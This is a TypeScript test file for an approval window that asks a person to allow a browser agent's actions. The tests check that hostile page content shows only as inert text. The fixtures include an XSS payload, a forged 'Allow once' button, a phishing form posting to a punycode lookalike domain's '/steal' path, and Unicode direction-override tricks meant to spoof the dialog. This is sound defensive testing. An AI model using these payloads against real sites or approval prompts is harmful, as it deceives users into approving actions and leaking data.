import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { answered, ApprovalWindowPage } from './rig/approval-window-page.ts';
import { DemoRoom, outlineIn } from './rig/demo-room.ts';
import type { McpAgent, Told } from './rig/mcp-agent.ts';
import { Rig } from './rig/rig.ts';
import { until } from './rig/within.ts';

/** Where pictures of the cards are put, for eyes; none unless asked for. */
const pictures = process.env['TABWARDEN_PICTURES'];

const markup =
  '<img src=x onerror=alert(1)></p><button name=once>Allow once</button><h1>Approved by Tabwarden</h1>';

const hostile = `<!doctype html><title>Shop</title>
<form action="https://www.xn--80ak6aa92e.com/steal?next=apple.com" method="post">
  <input name="number\u200B" value="DE00 \u202E21 XX\u202C">
  <input name="note" value="${markup.replaceAll('<', '&lt;')}">
  <textarea name="long">${'A line that repeats itself.\n'.repeat(60)}</textarea>
  <input type="password" name="pw" value="hunter2">
  <button aria-label="Continue\u202E 00.01 $ yaP">Continue<span> &lt;b&gt;safely&lt;/b&gt;</span></button>
</form>
<label>Comment <textarea></textarea></label>`;

let rig: Rig;
let agent: McpAgent;
let room: DemoRoom;
let call: Promise<Told> | undefined;
let window: ApprovalWindowPage;

beforeAll(async () => {
  rig = await Rig.start({ policy: null });
  rig.pages.serve('/hostile.html', hostile);
  await rig.settings.makeWorkspace('words', [rig.pages.origin]);
  agent = await rig.agent('Tabwarden\u202E <b>system</b> Allow once');
  room = await DemoRoom.enter(
    rig,
    'words',
    agent,
    (asked) => answered(rig.browser, asked, 'once'),
    'hostile.html',
  );
});

afterAll(async () => {
  await rig?.stop();
});

beforeEach(() => {
  call = undefined;
});

afterEach(async () => {
  if (call !== undefined) await answered(rig.browser, call, 'refuse');
});

async function show(asked: Promise<Told>, name: string): Promise<string> {
  call = asked;
  window = await ApprovalWindowPage.find(rig.browser);
  await window.target.waitFor("!document.querySelector('footer').classList.contains('inert')");
  const words = await window.words();
  await picture(name);
  return words;
}

async function picture(name: string): Promise<void> {
  if (pictures === undefined) return;
  mkdirSync(pictures, { recursive: true });
  // A headless browser gives a window no size of its own.
  const size = { width: 520, height: 720, deviceScaleFactor: 1, mobile: false };
  await window.target.send('Emulation.setDeviceMetricsOverride', size);
  for (const scheme of ['light', 'dark']) {
    const features = [{ name: 'prefers-color-scheme', value: scheme }];
    await window.target.send('Emulation.setEmulatedMedia', { features });
    writeFileSync(join(pictures, `${name}-${scheme}.png`), await window.target.screenshot());
  }
}

const elements = (): Promise<unknown> =>
  window.target.evaluate(
    "[document.querySelectorAll('h1').length, document.querySelectorAll('img, a, iframe').length, document.querySelectorAll('button[name=once]').length]",
  );

test('a form of a hostile page: its address, its values and its button are text, and nothing of it hides', async () => {
  const outline = outlineIn(await room.call('page_snapshot'));
  const ref = /button.*Continue.*\[(e\d+)\]/.exec(outline)?.[1] ?? outline;
  const words = await show(room.call('page_click', { ref }), 'form');
  for (const said of [
    'U+202E',
    'U+200B',
    'xn--80ak6aa92e.com',
    'imitate',
    'another site',
    markup,
    'cannot undo',
  ])
    expect(words).toContain(said);
  expect(words).not.toContain('hunter2');
  expect(words).not.toContain('\u202E');
  expect(await elements()).toEqual([1, 0, 1]);
});

test('a long value is shown whole', async () => {
  const text = `${'0123456789'.repeat(3_000)}\u202E${markup} the end`;
  const words = await show(room.call('page_fill', { ref: await room.refOf('Comment'), text }), 'value');
  expect(words).toContain('0123456789'.repeat(3_000));
  expect(words).toContain(`U+202E${markup} the end`);
  expect(await elements()).toEqual([1, 0, 1]);
});

test('the words of the agent stand apart, quoted', async () => {
  const purpose = `Urgent! ${markup} \u202Eevil ${'please '.repeat(40)}`.slice(0, 490);
  const words = await show(
    room.callInWorkspace('workspace_open', { purpose, origins: [rig.pages.otherOrigin] }),
    'purpose',
  );
  expect(words).toContain('own words. Nobody has checked them.');
  expect(words).toContain(markup);
  expect(words).toContain('U+202E');
  expect(await elements()).toEqual([1, 0, 1]);
});

test('50 KB of purpose never reach a person', async () => {
  await until(5000, 'no window', async () => !(await ApprovalWindowPage.isOpen(rig.browser)) || undefined);
  const told = await room.callInWorkspace('workspace_open', { purpose: 'x'.repeat(50_000) });
  expect(told).toMatchObject({ verdict: 'rejected', code: 'arguments.too_long' });
  expect(await ApprovalWindowPage.isOpen(rig.browser)).toBe(false);
});
